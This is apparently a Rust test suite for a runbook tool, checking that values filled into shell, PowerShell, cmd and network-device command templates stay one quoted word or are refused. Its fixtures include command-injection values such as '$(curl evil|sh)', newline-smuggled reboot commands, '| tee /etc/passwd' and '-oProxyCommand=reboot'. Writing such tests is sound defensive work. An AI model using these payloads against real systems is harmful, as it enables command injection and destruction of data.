//! A value is data: whatever it holds, it stays one word of the command around it, or is
//! refused. Values for POSIX shells are held against a real one.

use std::collections::BTreeMap;
use std::process::Command as Process;

use runsheet::domain::fill::{Filling, Segment, Unfilled};
use runsheet::domain::runbook::{Run, Variable};
use runsheet::domain::value::ValueType;

use crate::hostile::HOSTILE;
use crate::support::World;

/// Values that are no line of text at all.
const NO_LINE: &[&str] = &[
    "jdoe\nreload noconfirm",
    "jdoe\r\nreboot",
    "a\rb",
    "a\tb",
    "a\0b",
    "\u{1b}[31mred",
    "a\u{9b}31m",
    "a\u{7f}",
    "a\u{8}b",
    "a\u{85}b",
    "a\u{2028}b",
    "a\u{202e}b",
    "a\u{200b}b",
    "a\u{feff}",
    "a\u{e0041}b",
    "\n",
];

fn run(device: &str, text: &str) -> Run {
    Run {
        device: device.to_owned(),
        text: text.to_owned(),
        ..Run::default()
    }
}

fn variable(kind: ValueType) -> Variable {
    Variable {
        name: "x".to_owned(),
        ask: "what".to_owned(),
        example: None,
        kind,
        secret: false,
    }
}

fn fill_as(kind: ValueType, device: &str, text: &str, value: &str) -> Result<String, Unfilled> {
    let variables = [variable(kind)];
    let values = BTreeMap::from([("x".to_owned(), value.to_owned())]);
    let filling = Filling {
        variables: &variables,
        values: &values,
        examples: false,
        secret: |_: &str| None,
    };
    filling.fill(&run(device, text))
}

fn fill(device: &str, text: &str, value: &str) -> Result<String, Unfilled> {
    fill_as(ValueType::Text, device, text, value)
}

/// What a shell makes of a script, split at its zero bytes.
fn sh(script: &str) -> Vec<String> {
    let out = Process::new("sh").args(["-c", script]).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let mut parts: Vec<String> = text.split('\0').map(str::to_owned).collect();
    assert_eq!(parts.pop().as_deref(), Some(""), "{script}");
    parts
}

#[test]
fn a_real_shell_gets_each_value_as_it_is() {
    let kinds = [
        "linux",
        "macos",
        "strongswan",
        "libreswan",
        "openvpn",
        "wsl",
    ];
    for (text, before, after, plain_only) in [
        (r"printf '%s\0' {{x}}", "", "", false),
        (r"printf '%s\0' '{{x}}'", "", "", false),
        (r#"printf '%s\0' "{{x}}""#, "", "", false),
        (r"printf '%s\0' a{{ x }}b", "a", "b", false),
        (r"printf '%s\0' 'a {{x}} b'", "a ", " b", false),
        (r#"printf '%s\0' "a {{x}} b""#, "a ", " b", false),
        (r#"printf '%s\0' "$(printf '%s.' {{x}})""#, "", ".", false),
        (r#"printf '%s\0' "$(printf '%s.' "{{x}}")""#, "", ".", false),
        (r#"printf '%s\0' "it's {{x}}""#, "it's ", "", true),
        (r"printf '%s\0' `echo {{x}}`", "", "", true),
        (r"sh -c 'printf '\''%s\0'\'' {{x}}'", "", "", true),
    ] {
        let mut script = String::new();
        let mut wanted = Vec::new();
        for (index, value) in HOSTILE.iter().enumerate() {
            match fill(kinds[index % kinds.len()], text, value) {
                Ok(line) => {
                    script.push_str(&line);
                    script.push('\n');
                    wanted.push(format!("{before}{value}{after}"));
                }
                Err(Unfilled::Refused { why, .. }) => assert!(
                    plain_only || value.starts_with('-') && why.contains("option"),
                    "{text} {value}: {why}"
                ),
                Err(other) => panic!("{text} {value}: {other}"),
            }
        }
        assert_eq!(sh(&script), wanted, "{text}");
        match plain_only {
            true => assert!(wanted.len() < 8, "{text}: {wanted:?}"),
            false => assert!(wanted.len() > 60, "{text}: {}", wanted.len()),
        }
    }
}

/// What PowerShell makes of a word: single-quoted, or plain.
fn powershell_word(word: &str) -> String {
    let quotes = "'\u{2018}\u{2019}\u{201a}\u{201b}";
    let Some(inner) = word.strip_prefix('\'') else {
        let plain = |c: char| c.is_ascii_alphanumeric() || "._-/:@+\\".contains(c);
        assert!(
            word.chars().all(plain) && !word.starts_with(['@', '-', '/']),
            "{word}"
        );
        return word.to_owned();
    };
    let inner = inner.strip_suffix('\'').unwrap();
    single_quoted(inner, quotes)
}

fn single_quoted(inner: &str, quotes: &str) -> String {
    let mut out = String::new();
    let mut letters = inner.chars();
    while let Some(letter) = letters.next() {
        out.push(letter);
        if quotes.contains(letter) {
            assert_eq!(letters.next(), Some(letter), "a quote ends: {inner}");
        }
    }
    out
}

#[test]
fn powershell_gets_each_value_as_it_is() {
    for device in ["windows", "ad", "nps", "rras"] {
        let mut taken = 0;
        for value in HOSTILE {
            let Ok(line) = fill(device, "Get-ADUser -Identity {{x}} -Properties *", value) else {
                assert!(
                    value.contains('"') || value.starts_with(['-', '/']),
                    "{value}"
                );
                continue;
            };
            taken += 1;
            let word = line.strip_prefix("Get-ADUser -Identity ").unwrap();
            let word = word.strip_suffix(" -Properties *").unwrap();
            assert_eq!(powershell_word(word), *value, "{line}");
            let line = fill(device, "Get-VpnConnection -Name '{{x}}'", value).unwrap();
            let inner = line.strip_prefix("Get-VpnConnection -Name '").unwrap();
            let inner = inner.strip_suffix('\'').unwrap();
            assert_eq!(
                single_quoted(inner, "'\u{2018}\u{2019}\u{201a}\u{201b}"),
                *value
            );
            let line = fill(device, "rasdial \"a {{x}}\"", value).unwrap();
            let inner = line
                .strip_prefix("rasdial \"a ")
                .unwrap()
                .strip_suffix('"')
                .unwrap();
            let mut letters = inner.chars();
            let mut read = String::new();
            while let Some(letter) = letters.next() {
                match letter {
                    '`' => read.extend(letters.next()),
                    '$' | '"' | '\u{201c}'..='\u{201e}' => panic!("it is read: {line}"),
                    other => read.push(other),
                }
            }
            assert_eq!(read, *value, "{line}");
        }
        assert!(taken > 60, "{device} took {taken}");
        // A quoted string would end the word here: only a plain one goes.
        assert!(fill(device, "nltest /dsgetdc:{{x}}", "a b").is_err());
        assert_eq!(
            fill(device, "nltest /dsgetdc:{{x}}", "example.net").unwrap(),
            "nltest /dsgetdc:example.net"
        );
        assert!(
            fill(
                device,
                "Get-ADUser -Filter \"Name -eq '{{x}}'\"",
                "a' -or '1"
            )
            .is_err()
        );
    }
}

#[test]
fn cmd_gets_each_value_in_quotes_or_not_at_all() {
    let mut taken = 0;
    for value in HOSTILE {
        for (text, before, after) in [
            ("net user {{x}} /domain", "net user ", " /domain"),
            ("dir \"{{x}}\"", "dir \"", "\""),
        ] {
            let Ok(line) = fill("cmd", text, value) else {
                let first = value.starts_with(['-', '/']);
                assert!(
                    value.contains(['"', '%', '!']) || value.ends_with('\\') || first,
                    "{value}"
                );
                continue;
            };
            taken += 1;
            let word = line
                .strip_prefix(before)
                .unwrap()
                .strip_suffix(after)
                .unwrap();
            let inner = word
                .strip_prefix('"')
                .and_then(|word| word.strip_suffix('"'));
            let is_quoted = inner.is_some() || before.ends_with('"');
            assert_eq!(inner.unwrap_or(word), *value);
            assert!(!word.trim_matches('"').contains(['"', '%', '!']), "{line}");
            let plain = |c: char| c.is_ascii_alphanumeric() || "._-/:@+\\".contains(c);
            assert!(is_quoted || value.chars().all(plain), "{line}");
        }
    }
    assert!(taken > 80, "{taken}");
}

#[test]
fn a_network_command_line_gets_one_word() {
    let kinds = ["asa", "ftd", "ios", "junos", "panos", "fortigate", "ise"];
    for device in kinds {
        for value in HOSTILE {
            let Ok(line) = fill(device, "show user {{x}} detail", value) else {
                continue;
            };
            let word = line
                .strip_prefix("show user ")
                .unwrap()
                .strip_suffix(" detail")
                .unwrap();
            assert!(
                !word.contains(['|', ';', '?', '!', '<', '>', '`']),
                "{line}"
            );
            let quoted = word
                .strip_prefix('"')
                .and_then(|word| word.strip_suffix('"'));
            assert_eq!(quoted.unwrap_or(word), *value, "{line}");
            assert!(!quoted.unwrap_or_default().contains('"'), "{line}");
            assert!(quoted.is_some() || !word.contains(' '), "{line}");
        }
        for (value, named) in [
            ("a|b", "\"|\""),
            ("a;b", "\";\""),
            ("a?b", "\"?\""),
            ("a!b", "\"!\""),
        ] {
            let said = fill(device, "show user {{x}}", value)
                .unwrap_err()
                .to_string();
            assert!(
                said.contains("the value of x holds") && said.contains(named),
                "{said}"
            );
        }
    }
    assert_eq!(
        fill("fortigate", "show {{x}}", "a b").unwrap(),
        "show \"a b\""
    );
    assert!(
        fill("asa", "show {{x}}", "a b")
            .unwrap_err()
            .to_string()
            .contains("a space")
    );
    // A name in a certificate is the rest of its line.
    let name = "anyconnect certificate authentication";
    for text in ["issuer-name CN={{x}}", "issuer-name attr cn eq {{x}}"] {
        assert_eq!(
            fill("asa", text, name).unwrap(),
            text.replace("{{x}}", name)
        );
    }
    assert!(fill("asa", "user-db add dn CN={{x}},O=y", name).is_err());
}

#[test]
fn a_kind_that_is_not_known_gets_plain_words_only() {
    for value in HOSTILE {
        if let Ok(line) = fill("toaster", "show {{x}}", value) {
            let plain = |c: char| c.is_ascii_alphanumeric() || "._-/:@+,".contains(c);
            assert!(line["show ".len()..].chars().all(plain), "{line}");
        }
    }
    assert_eq!(
        fill("toaster", "show {{x}}", "asa1.example.net").unwrap(),
        "show asa1.example.net"
    );
}

#[test]
fn what_is_no_line_of_text_comes_in_nowhere_and_goes_out_nowhere() {
    for value in NO_LINE {
        for device in [
            "linux", "windows", "cmd", "asa", "junos", "client", "toaster",
        ] {
            let said = fill(device, "echo {{x}}", value).unwrap_err().to_string();
            let says = ["must be on one line", "holds an invisible character"];
            let is_told = says.iter().any(|says| said.contains(says));
            assert!(is_told, "{device} {value:?}: {said}");
            // It is not told: what it holds would steer the terminal.
            assert!(!said.contains(char::is_control), "{said:?}");
        }
        let mut world = World::new(TYPED);
        let said = world.no(variable_set("user", value));
        assert!(
            said.starts_with("user must be") || said.starts_with("user holds"),
            "{value:?}: {said}"
        );
        let mut opened = World::unopened(TYPED);
        let mut opening = crate::support::opening(&crate::support::book(TYPED).0);
        opening.variables = vec![("user".to_owned(), (*value).to_owned())];
        assert!(opened.open(opening).is_err(), "{value:?}");
    }
}

fn variable_set(name: &str, value: &str) -> runsheet::domain::command::Command {
    crate::support::act::variable(name, value)
}

/// A runbook with typed variables.
const TYPED: &str = "format: runsheet.runbook/1.1
id: typed
title: Typed
revision: 1
variables:
  - {name: user, type: name, ask: Who}
  - {name: server, type: host, ask: Where}
  - {name: address, type: ip, ask: From where}
  - {name: port, type: int, ask: Which port}
  - {name: words, ask: Anything}
phases:
  - id: one
    title: One
    steps:
      - {id: look, do: Look, kind: check, run: [{device: linux, text: 'id {{user}}'}]}
      - {id: leave, do: Leave, kind: check}
";

#[test]
fn types_are_checked_where_values_come_in() {
    for (name, good, bad, says) in [
        ("user", "CORP\\jdoe", "jdoe noconfirm", "one word"),
        (
            "server",
            "asa1.example.net",
            "asa1;reboot",
            "name or address",
        ),
        ("address", "192.0.2.1", "asa1", "IP address"),
        ("port", "443", "443 x", "whole number"),
        ("words", "any words; at all", "two\nlines", "on one line"),
    ] {
        let mut world = World::new(TYPED);
        assert_eq!(
            world.ok(variable_set(name, good)),
            ["variable.set"],
            "{name}"
        );
        let said = world.no(variable_set(name, bad));
        assert!(said.contains(says), "{name}: {said}");
    }
}

#[test]
fn a_value_that_was_recorded_elsewhere_is_checked_again() {
    let said = fill_as(ValueType::Int, "asa", "show {{x}}", "1 2")
        .unwrap_err()
        .to_string();
    assert!(said.contains("whole number"), "{said}");
}

/// The labels of an alert are written by whatever is watched.
#[test]
fn labels_of_a_hostile_alert_stay_words() {
    let payload = serde_json::json!({"version": "4", "alerts": [{"labels": {
        "alertname": "Down", "a": "asa1\nreload noconfirm", "b": "asa1; reboot #",
        "c": "$(curl evil|sh)", "d": "asa1' || reboot '", "e": "\u{1b}]0;x\u{7}asa1",
        "f": "asa1`reboot`", "g": "asa1\" ; reboot ; \"", "h": "-oProxyCommand=reboot",
        "i": "asa1 | tee /etc/passwd", "j": "\u{202e}1asa", "k": "asa1", "l": "{{user}}",
    }}]});
    let labels = payload["alerts"][0]["labels"].as_object().unwrap();
    let mut taken = Vec::new();
    for (label, value) in labels {
        let value = value.as_str().unwrap();
        let mut world = World::new(TYPED);
        // As the name of a machine only what is one.
        let host = world.submit(variable_set("server", value), Default::default());
        assert_eq!(
            host.is_ok(),
            ["alertname", "k"].contains(&&**label),
            "{label}"
        );
        // As any text whatever is one line, and then it stays one word.
        if world
            .submit(variable_set("words", value), Default::default())
            .is_ok()
            && let Ok(line) = fill("linux", r"printf '%s\0' {{x}}", value)
        {
            assert_eq!(sh(&line), [value]);
            taken.push(label.as_str());
        }
    }
    assert_eq!(taken, ["alertname", "b", "c", "d", "f", "g", "i", "k", "l"]);
}

#[test]
fn what_is_missing_is_named_and_other_braces_are_text() {
    let variables = [variable(ValueType::Text)];
    let values = BTreeMap::from([("y".to_owned(), "1".to_owned())]);
    let filling = Filling {
        variables: &variables,
        values: &values,
        examples: false,
        secret: |_: &str| None,
    };
    let lacks = run(
        "linux",
        "docker ps --format '{{.Names}}' {{x}} {{y}} {{ x }}",
    );
    assert_eq!(
        filling.fill(&lacks),
        Err(Unfilled::Missing(vec!["x".to_owned()]))
    );
    let pieces = filling.pieces(&lacks);
    assert_eq!(pieces[1], Segment::Missing("{{x}}"));
    assert_eq!(pieces[3], Segment::Missing("{{ x }}"));
    let text = "docker ps --format '{{.Names}}' {{y}} {{";
    assert_eq!(filling.fill(&run("linux", text)).as_deref(), Ok(text));
    // A value that looks like a placeholder is none.
    let values = BTreeMap::from([("x".to_owned(), "{{x}}".to_owned())]);
    let filling = Filling {
        values: &values,
        ..filling
    };
    assert_eq!(
        filling.fill(&run("client", "{{x}}")).as_deref(),
        Ok("{{x}}")
    );
}
